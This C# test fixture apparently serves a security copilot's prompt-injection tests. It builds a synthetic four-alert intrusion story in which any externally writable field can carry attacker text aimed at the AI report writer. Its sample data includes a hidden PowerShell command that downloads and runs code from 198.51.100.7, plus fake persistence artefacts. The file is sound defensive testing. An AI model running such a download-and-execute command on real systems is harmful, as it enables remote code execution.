using Redoubt.Copilot.Skills.IncidentReport;
using Redoubt.Evidence;
using Redoubt.Incidents;
using Redoubt.Incidents.Intelligence;
using Redoubt.Incidents.Response;

namespace Redoubt.Copilot.Tests.Injection;

/// <summary>An attack of four alerts with its log and actions, in which any field that somebody outside can write holds a text of theirs.</summary>
internal static class HostileStory
{
    /// <summary>Each such field, and what it usually holds; null: usually nothing.</summary>
    private static readonly IReadOnlyList<(string Field, string? Usual)> Known =
    [
        ("title", "Suspicious PowerShell started by Excel"), ("description", null), ("category", null), ("actor", null), ("threat", null), ("threatFamily", null), ("recommendedActions", null),
        ("detectorId", null), ("link", null), ("remark", null), ("sourceIncident", null), ("incidentName", "Multi-stage attack on FIN-WS-07"), ("resolvingComment", null), ("comment", "Looked at it"),
        ("comment.by", "Ana Berg"), ("action.reason", "Reads credentials"), ("action.outcome", "Isolated"), ("action.target", "FIN-WS-07"),
        ("device.hostName", "FIN-WS-07"), ("device.dnsName", null), ("device.osPlatform", "Windows11"), ("user.accountName", "m.lopez"), ("user.displayName", "Maria Lopez"), ("user.upn", null), ("user.department", "Finance"),
        ("process.fileName", "powershell.exe"), ("process.commandLine", "powershell -w hidden -c \"iex (iwr http://198.51.100.7/a)\""), ("process.scriptBlock", "Get-Date"), ("process.imageFile", null),
        ("process.parent.fileName", "excel.exe"), ("process.parent.commandLine", "excel.exe a.xlsm"), ("file.fileName", "svch0st.exe"), ("file.path", @"C:\ProgramData"), ("file.publisher", "Unknown"),
        ("url.url", "http://198.51.100.7/a"), ("url.userAgent", "curl/8"), ("domain.name", "pay.example"), ("ip.address", "198.51.100.7"), ("ip.host", "relay.pay.example"),
        ("mail.subject", "Overdue invoice"), ("mail.sender", "billing@pay.example"), ("mail.senderName", "Billing"), ("mail.recipient", "m.lopez@corp.example"), ("mailbox.address", "m.lopez@corp.example"), ("mailbox.displayName", "Lopez"),
        ("registryValue.key", @"HKLM\Software\Run"), ("registryValue.name", "Upd"), ("registryValue.data", "svch0st.exe"), ("registryKey.key", @"HKCU\Software\Upd"),
        ("cloudApplication.name", "Mail Sync"), ("cloudResource.id", "/vaults/keys"), ("container.name", "web-1"), ("session.userAgent", "Mozilla/5.0"), ("service.name", "Updater"), ("service.path", @"C:\u.exe"),
        ("scheduledTask.name", "Daily"), ("scheduledTask.command", "u.exe"), ("securityGroup.name", "Helpdesk"), ("malware.name", "Softpaw"), ("other.name", "thing"), ("other.rawEvent", "x=1"),
        ("listing.source", "Feed A"), ("listing.about", "Softpaw"), ("listing.indicatorName", "Otter's server"),
    ];

    /// <summary>Every field of an alert, entity, log or action that somebody outside can write.</summary>
    public static IReadOnlyList<string> Fields { get; } = [.. Known.Select(field => field.Field)];

    /// <param name="hostile">The text of a field, by its number; null leaves it as it usually is.</param>
    public static ReportInput Of(Func<int, string?> hostile)
    {
        var texts = Known.Select((field, number) => (field.Field, Text: hostile(number) ?? field.Usual)).ToDictionary(field => field.Field, field => field.Text, StringComparer.Ordinal);
        var start = Stories.Time("2026-03-12T08:00:00Z");
        Entity Thing(EntityKind kind, string name)
        {
            var prefix = $"{EntityIdentity.WireName(kind)}.";
            var fields = texts.Where(text => text.Key.StartsWith(prefix, StringComparison.Ordinal) && text.Value is not null).ToDictionary(text => text.Key[prefix.Length..], text => text.Value!, StringComparer.Ordinal);
            if (kind == EntityKind.File)
                fields.Add("sha256", new string('a', 64));
            return new Entity(kind, texts[prefix + name]!, fields);
        }

        var domain = Thing(EntityKind.Domain, "name");
        var (device, user) = (Thing(EntityKind.Device, "hostName"), Thing(EntityKind.User, "accountName"));
        IReadOnlyList<Alert> alerts =
        [
            Make("one", "Mail with a harmful attachment was delivered", "initial-access", "T1566.001", start,
                Thing(EntityKind.Mail, "subject"), Thing(EntityKind.Url, "url"), domain, Thing(EntityKind.Mailbox, "address"), user),
            Make("two", texts["title"]!, "execution", "T1059.001", start.AddMinutes(4), device, user, Thing(EntityKind.Process, "fileName"), Thing(EntityKind.File, "fileName"), Thing(EntityKind.Malware, "name")) with
            {
                Description = texts["description"], Category = texts["category"], Actor = texts["actor"], Threat = texts["threat"], ThreatFamily = texts["threatFamily"], DetectorId = texts["detectorId"],
                Link = texts["link"], SourceIncident = texts["sourceIncident"], RecommendedActions = texts["recommendedActions"] is { } advice ? [advice] : [], Remarks = texts["remark"] is { } remark ? [remark] : [],
            },
            Make("three", "Credentials were read from LSASS", "credential-access", "T1003.001", start.AddMinutes(20), device, user,
                Thing(EntityKind.RegistryValue, "key"), Thing(EntityKind.RegistryKey, "key"), Thing(EntityKind.Service, "name"), Thing(EntityKind.ScheduledTask, "name"), Thing(EntityKind.Ip, "address")),
            Make("four", "An application was given access", "persistence", "T1098", start.AddMinutes(50), user, Thing(EntityKind.CloudApplication, "name"), Thing(EntityKind.CloudResource, "id"),
                Thing(EntityKind.Container, "name"), Thing(EntityKind.Session, "userAgent"), Thing(EntityKind.SecurityGroup, "name"), Thing(EntityKind.Other, "name")),
        ];
        var story = Stories.Of(alerts, texts["incidentName"]!);
        var key = EntityIdentity.Key(device);
        return new ReportInput(
            story with
            {
                Incident = story.Incident with { ResolvingComment = texts["resolvingComment"] },
                Activity = [new ActivityEntry(1, start.AddMinutes(70), ActivityKind.Commented, texts["comment.by"]!, texts["comment"]!, null, null, null)],
                Listings =
                [
                    new Listing(
                        "one", 7, new EntityReference(EntityKind.Domain, EntityIdentity.Key(domain), texts["domain.name"]!), ObservableKind.Domain, "pay.example", "pay.example", 1, texts["listing.indicatorName"]!, 1, texts["listing.source"]!,
                        [new ProfileName("malware--1", ProfileKind.Malware, texts["listing.about"]!, null)], start.AddDays(-9), start, 80, null),
                ],
            },
            [
                new ResponseAction(
                    1, ActionKind.IsolateDevice, ActionState.Done, new EntityReference(EntityKind.Device, key, texts["action.target"]!), new Dictionary<string, string>(), 7, texts["action.reason"]!, ActionOrigin.Person, null, [],
                    "Ana Berg", start.AddMinutes(60), "Bo Lind", null, null, start.AddMinutes(61), "Sensor", null, 1, null, start.AddMinutes(62), texts["action.outcome"], null, null),
            ]);

        static Alert Make(string id, string title, string tactic, string technique, DateTimeOffset time, params Entity[] entities) => new()
        {
            Id = id, Title = title, Severity = Severity.High, Detector = "Watchful EDR", Tactics = [tactic], Techniques = [technique], FirstActivity = time, LastActivity = time.AddSeconds(5), Entities = entities,
        };
    }
}
